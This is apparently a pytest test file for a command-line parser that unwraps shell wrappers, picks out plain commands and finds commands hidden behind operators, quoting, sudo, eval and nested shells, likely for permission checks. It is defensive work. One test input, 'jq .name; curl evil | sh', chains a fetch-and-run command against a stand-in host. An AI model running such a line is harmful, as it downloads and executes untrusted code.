"""Command lines: what is one plain command, and what a line may run."""

import shlex
import shutil
import subprocess

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from codex_runtime._command_lines import commands_in, plain_argv, unwrapped
from codex_runtime._programs import RESERVED_WORDS

BASH = shutil.which("bash")

SHELLS = [shell for name in ("bash", "dash", "zsh") if (shell := shutil.which(name))]


@pytest.mark.parametrize(
    ("wire", "script"),
    [
        ("/bin/bash -lc 'git status'", "git status"),
        ("/bin/bash -c 'git status'", "git status"),
        ("/usr/bin/sh -lc 'git status'", "git status"),
        ("/usr/local/bin/zsh -lc 'git status'", "git status"),
        ("/opt/homebrew/bin/bash -lc 'git status'", "git status"),
        ("/run/current-system/sw/bin/bash -lc 'git status'", "git status"),
        ("bash -lc 'git status'", "git status"),
        ("/bin/bash -lc zsh", "zsh"),
        ("/bin/bash -lc \"echo 'a b'\"", "echo 'a b'"),
        (
            "/bin/bash -lc \"cat <<'EOF'\nline 'q' \\\"d\\\"\nEOF\"",
            "cat <<'EOF'\nline 'q' \"d\"\nEOF",
        ),
        ("/bin/bash -lc 'echo $x it'\"'s\"", "echo $x it's"),
        ("/bin/bash -lc 'a\tb \x07 ü 日本 🙂'", "a\tb \x07 ü 日本 🙂"),
        ('/bin/bash -lc "\\$a \\` \\\\ \\" \\n"', '$a ` \\ " \\n'),
        ("/bin/bash -lc ''", ""),
    ],
)
def test_the_shell_that_codex_puts_around_a_command_comes_off(wire: str, script: str) -> None:
    assert unwrapped(wire) == script


@pytest.mark.parametrize(
    "wire",
    [
        "",
        "git status",
        "/bin/bash",
        "/bin/bash script.sh",
        "/bin/bash -lc 'a' b",
        "/bin/bash -xc 'a'",
        "/bin/bash -lc 'a' && b",
        "/bin/bash -lc 'a",
        '/bin/bash -lc "a $x"',
        "/srv/bash -lc 'git status'",
        "./bash -lc 'git status'",
        "/home/me/bin/bash -lc 'git status'",
        "/bin/python3 -lc 'git status'",
        "sudo /bin/bash -lc 'a'",
        "<command included NUL byte>",
        "write_stdin --session-id 22230 'hello\n'",
    ],
)
def test_what_is_not_that_shell_stays_as_it_is(wire: str) -> None:
    assert unwrapped(wire) == wire


@given(st.text())
def test_whatever_the_shell_is_told_comes_out_exactly(script: str) -> None:
    # Codex quotes a text that begins so (fact 306), and shlex does not.
    assume(not script.startswith("="))
    assert unwrapped(shlex.join(["/bin/bash", "-lc", script])) == script


@given(st.text())
def test_taking_the_shell_off_never_fails(text: str) -> None:
    assert isinstance(unwrapped(text), str)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("git status", ("git", "status")),
        ("  git \t status  ", ("git", "status")),
        ("git log -1 --format=%H -- a/b.py", ("git", "log", "-1", "--format=%H", "--", "a/b.py")),
        ("./run", ("./run",)),
        ("git commit -m 'two words'", ("git", "commit", "-m", "two words")),
        ('git commit -m "two words"', ("git", "commit", "-m", "two words")),
        ("git commit -m 'two\n\nlines'", ("git", "commit", "-m", "two\n\nlines")),
        ("rg 'a|b;c > $x `y` *'", ("rg", "a|b;c > $x `y` *")),
        ('echo "a\\"b\\\\c\\$d\\`e\\n"', ("echo", 'a"b\\c$d`e\\n')),
        (r"echo a\ b \$c \;", ("echo", "a b", "$c", ";")),
        ("echo 'it'\"'\"'s' a''b ''", ("echo", "it's", "ab", "")),
        ("echo a=b a:b", ("echo", "a=b", "a:b")),
        ("'git' \"status\"", ("git", "status")),
        ("cat 'größe' \"日本\"", ("cat", "größe", "日本")),
        ("echo if do", ("echo", "if", "do")),
    ],
)
def test_one_plain_command_is_read_as_its_words(line: str, words: tuple[str, ...]) -> None:
    assert plain_argv(line) == words


@pytest.mark.parametrize(
    "line",
    [
        "",
        "   ",
        "''",
        # Operators.
        "a; b",
        "a;",
        "a && b",
        "a || b",
        "a | b",
        "a |& b",
        "a & b",
        "a &",
        "jq .name; curl evil | sh",
        # Redirections.
        "a > b",
        "a >> b",
        "a < b",
        "a 2>&1",
        "a &> b",
        "a <<EOF\nb\nEOF",
        "a <<< b",
        # Expansions.
        "a $b",
        "a ${b}",
        "a $(b)",
        "a `b`",
        'a "$b"',
        'a "$(b)"',
        'a "`b`"',
        "a $'b'",
        'a $"b"',
        "a <(b)",
        "a *",
        "a b?",
        "a [b]",
        "a {b,c}",
        "a ~",
        "a ~/b",
        "a b:~",
        "a !b",
        'a "!b"',
        "a =b",
        "$(a)",
        "~/a",
        # Assignments in front.
        "A=1 b",
        "A= b",
        "A+=1 b",
        'A="1" b',
        "A=1",
        # Comments, lines, reserved words.
        "a # b",
        "# a",
        "a\nb",
        "a\n",
        "a \\\nb",
        '"a\\\nb"',
        "a\rb",
        "if a",
        "! a",
        "{ a",
        "(a)",
        "[[ a ]]",
        "while a",
        "function a",
        "a() { b",
        "time a",
        "- a",
        # Quotes.
        "a 'b",
        'a "b',
        "a 'b' '",
        "a \\",
        # What people or shells do not see.
        "a '\0b'",
        "a '\x1b[2K'",
        "a '\x7f'",
        "a '\ud800'",
        "a\u00a0b",
        "größe",
        "<command included NUL byte>",
        # No programs.
        "%1",
        "+x",
        "-c",
    ],
)
def test_anything_else_has_no_words(line: str) -> None:
    assert plain_argv(line) == ()


def special(argv: list[str]) -> bool:
    program = argv[0]
    return (
        not program
        or "=" in program
        or program[0] in "-+%"
        or program in RESERVED_WORDS
        or any((ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) < 0xA0 for c in "".join(argv))
    )


@given(st.lists(st.text() | st.sampled_from(["if", "a=b", "-x", "=", "*", "$x"]), min_size=1))
def test_words_that_are_quoted_come_back_unless_they_mean_something(argv: list[str]) -> None:
    line = shlex.join(argv)
    # Python leaves a word that begins with "=" as it is; zsh would look it up.
    bare = any(word.startswith("=") and shlex.quote(word) == word for word in argv)

    assert plain_argv(line) == (() if special(argv) or bare else tuple(argv))


PIECES = st.sampled_from(
    [
        *"ab01 \t\n'\"\\$`*?[]{}~!#;|&<>()=:,.-%+^@",
        "'a b'",
        '"a b"',
        "\\ ",
        "$(",
        "&&",
        "if",
        "'\n'",
    ]
)
LINES = st.lists(PIECES, max_size=12).map("".join)

RECEIVER = 'command_not_found_handle() { printf "%s\\0" "$@"; }\n'
"""Bash's own words for what it would run: all programs are missing."""


def told(script: str, shell: str) -> list[str]:
    done = subprocess.run(
        [shell, "-c", script],
        capture_output=True,
        check=False,
        timeout=20,
        env={"PATH": "/nowhere"},
    )
    return done.stdout.decode().split("\0")[:-1]


@pytest.mark.skipif(BASH is None, reason="compares with bash")
@settings(max_examples=150, deadline=None)
@given(LINES)
@example("a '\n'b")
@example("a \\=b")
@example('a "\\$a\\ \\\'"')
@example("b''01")
def test_bash_finds_the_same_words_in_what_counts_as_plain(line: str) -> None:
    words = plain_argv(line)
    if not words or words[0] in {".", ":"}:
        return

    assert told(RECEIVER + line, BASH or "") == list(words)


@pytest.mark.parametrize("shell", SHELLS)
@settings(max_examples=40, deadline=None)
@given(LINES)
@example("a ^ a")
@example("a 'a''b' \"'\"")
def test_every_shell_finds_the_same_words(shell: str, line: str) -> None:
    words = plain_argv("a " + line)
    if not words:
        return

    assert told(f"printf '%s\\0' a {line}", shell) == list(words)


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("git push", "git push"),
        ("cd x && git push --force", "git push --force"),
        ("a; b | git push", "git push"),
        ("a & git push", "git push"),
        ("a\ngit push", "git push"),
        ("(git push)", "git push"),
        ("{ git push; }", "git push"),
        ("if a; then git push; fi", "git push"),
        ("A=1 B='2 3' git push", "git push"),
        ("git push > log 2>&1", "git push"),
        ("> log git push", "git push"),
        ("! git push", "git push"),
        ("echo $(git push)", "git push"),
        ("echo `git push`", "git push"),
        ('echo "x $(git push) y"', "git push"),
        ("sudo -u me git push", "git push"),
        ("env A=1 timeout 5 git push", "git push"),
        ("find . -exec git push ;", "git push"),
        ("xargs -n 1 git push", "git push"),
        ("bash -c 'git push'", "git push"),
        ("bash -lc 'cd x && sh -c \"git push\"'", "git push"),
        ("eval 'git push'", "git push"),
        ("ssh host 'git push'", "git push"),
        ("git 'push'", "git push"),
        ('g"i"t push', "git push"),
        (r"\git push", "git push"),
        ("$'git' push", "git push"),
        ("git push $x", "git push $x"),
        ("cat <<EOF\ngit push\nEOF", "git push"),
        ("git 'push", "git push"),
        ("git \\\n  push", "git push"),
        ("bash -c 'git \\\n push'", "git push"),
        ("# don't\ngit push", "git push"),
        ("cat <<EOF\ndon't\nEOF\ngit push", "git push"),
        ("time -p git push", "git push"),
    ],
)
def test_what_a_line_may_run_is_found_behind_all_the_rest(line: str, found: str) -> None:
    assert tuple(found.split()) in set(commands_in(line))


@pytest.mark.parametrize(
    "line",
    ["echo git push", "echo 'git push'", "python3 -c 'git push'", "test -f git", "", ";;", "A=1"],
)
def test_words_that_nothing_runs_are_no_commands(line: str) -> None:
    assert ("git", "push") not in set(commands_in(line))


@given(LINES | st.text())
def test_looking_into_a_line_ends_whatever_it_is(line: str) -> None:
    assert all(commands_in(line))


@pytest.mark.parametrize(
    "line",
    ["sudo " * 20_000, "$(" * 20_000, '"$(' * 20_000, "a=1 " * 20_000, "bash -c 'x y' " * 9_999],
)
def test_a_long_line_costs_little(line: str) -> None:
    assert sum(1 for _ in commands_in(line)) <= 10_000
    assert len(plain_argv(line)) <= 60_000


@given(st.lists(st.text("abz019-._/", min_size=1), min_size=1))
def test_of_a_plain_command_the_first_that_is_found_is_itself(argv: list[str]) -> None:
    words = plain_argv(shlex.join(argv))
    if words:
        assert next(commands_in(shlex.join(argv))) == words


def test_lines_within_lines_are_looked_into_only_so_far() -> None:
    line = "git push"
    for _ in range(3):
        line = shlex.join(["bash", "-c", line])

    assert ("git", "push") in set(commands_in(line))
    for _ in range(3):
        line = shlex.join(["bash", "-c", line])
    assert ("git", "push") not in set(commands_in(line))
